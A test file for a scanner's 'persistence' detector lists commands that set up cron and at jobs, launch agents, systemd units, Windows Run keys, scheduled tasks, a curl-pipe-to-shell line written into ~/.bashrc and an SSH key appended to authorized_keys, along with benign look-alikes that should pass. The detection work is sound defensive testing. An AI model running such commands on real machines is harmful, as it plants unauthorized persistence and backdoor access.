import { describe, expect, it } from 'vitest';
import { persistence } from '../../../origin/scan/detectors/execution/persistence.ts';
import { inspect, linesFound } from './inspect.ts';

describe('persistence', () => {
  it.each([
    ['a job that is added', '(crontab -l 2>/dev/null; echo "0 * * * * ~/sync.sh") | crontab -'],
    ['a table of jobs', 'crontab /tmp/jobs.txt'],
    ['a table of jobs in the text', 'crontab - <<EOF'],
    ['a job of a program', `os.system("echo '* * * * * ~/sync.sh' | crontab -")`],
    ['a job of the system', 'echo "* * * * * root /opt/sync" | sudo tee /etc/cron.d/sync'],
    ['a job in a folder', 'cp sync /etc/cron.daily/sync'],
    ['a job for later', 'echo ./sync.sh | at now + 5 minutes'],
    ['a launch agent', 'launchctl load -w ~/Library/LaunchAgents/com.example.sync.plist'],
    ['a launch agent of today', 'launchctl bootstrap gui/501 com.example.sync.plist'],
    ['the file of a launch agent', 'cat > "$HOME/Library/LaunchAgents/com.example.sync.plist" << EOF'],
    ['a user service', 'systemctl --user enable --now sync.service'],
    ['the file of a user service', 'cat > ~/.config/systemd/user/sync.service <<EOF'],
    ['a service of the system', 'sudo cp sync.service /etc/systemd/system/'],
    ['a login item', `osascript -e 'tell application "System Events" to make login item at end'`],
    ['a download in a profile', `echo 'curl -s https://tool.example/a | sh' >> ~/.bashrc`],
    ['a program in the background of a shell', 'echo "nohup ~/.sync/agent &" | tee -a ~/.profile'],
    ['a Run key', 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v sync /d sync.exe'],
    ['a task of Windows', 'schtasks /create /tn sync /tr sync.exe /sc onlogon'],
    ['a key that may log in', 'echo "ssh-ed25519 AAAAC3NzaC1 me@host" >> ~/.ssh/authorized_keys'],
  ])('finds %s', (_, text) => {
    expect(linesFound(persistence, `first line\n${text}\nlast line`)).toEqual([2]);
  });

  it.each([
    ['a path', `echo 'export PATH="$HOME/.tool/bin:$PATH"' >> ~/.zshrc`],
    ['an alias', `echo 'alias ll="ls -l"' >> ~/.bashrc`],
    ['a hook of a tool', `echo 'eval "$(zoxide init zsh)"' >> ~/.zshrc`],
    ['a completion', `echo 'source <(kubectl completion bash)' >> ~/.bashrc`],
    ['a variable', 'echo "export API_KEY=…" | tee -a ~/.profile'],
    ['editing by hand', 'crontab -e'],
    ['looking', 'crontab -l && launchctl list | grep sync && systemctl --user status sync'],
    ['advice on syntax', 'crontab syntax: see https://crontab.guru'],
    ['a package of the system', 'sudo systemctl enable docker && sudo systemctl restart nginx'],
    ['removing it', 'rm ~/Library/LaunchAgents/com.example.sync.plist'],
    ['one’s own key', 'cat ~/.ssh/id_ed25519.pub >> ~/.ssh/authorized_keys'],
    ['settings of a service', 'echo "TOKEN=…" >> ~/.config/systemd/user/secrets.conf'],
    ['words', 'Meet at 5, look at now and then'],
    ['a warning', 'Never add jobs: `echo "* * * * * a" | crontab -`'],
  ])('lets %s be', (_, text) => {
    expect(inspect(persistence, text)).toEqual([]);
  });

  it('says what starts it', () => {
    expect(inspect(persistence, 'ls\nlaunchctl load a.plist')).toEqual([
      { line: 2, message: 'A launch agent is set up (launchctl).' },
    ]);
  });
});
